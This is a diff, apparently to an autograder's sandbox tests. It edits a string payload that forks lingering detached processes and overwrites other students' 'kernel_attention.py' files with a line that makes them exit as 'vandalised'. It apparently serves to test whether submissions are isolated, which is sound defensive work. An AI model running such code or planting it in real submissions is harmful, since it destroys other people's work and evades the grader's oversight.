@@ -152,6 +152,7 @@ for n in range(4):
 LINGER = '''
 import os, time, signal, glob
 # a family that keeps forking, waits for the next student, then kills and vandalises whatever it finds
+work = os.path.dirname(os.getcwd())                                  # beside this submission's own folder
 for _ in range(3):
     if os.fork() == 0:
         os.setsid()
@@ -163,7 +164,7 @@ for _ in range(3):
                     os._exit(0)                                       # the parent leaves, the child goes on
             except OSError:
                 pass
-            for folder in glob.glob("/tmp/work/s*") + glob.glob("/tmp/autograde-*/work/s*"):
+            for folder in glob.glob(os.path.join(work, "s*")):              # the other submissions' folders
                 try:
                     with open(os.path.join(folder, "kernel_attention.py"), "w") as f:
                         f.write("raise SystemExit('vandalised')\\n")
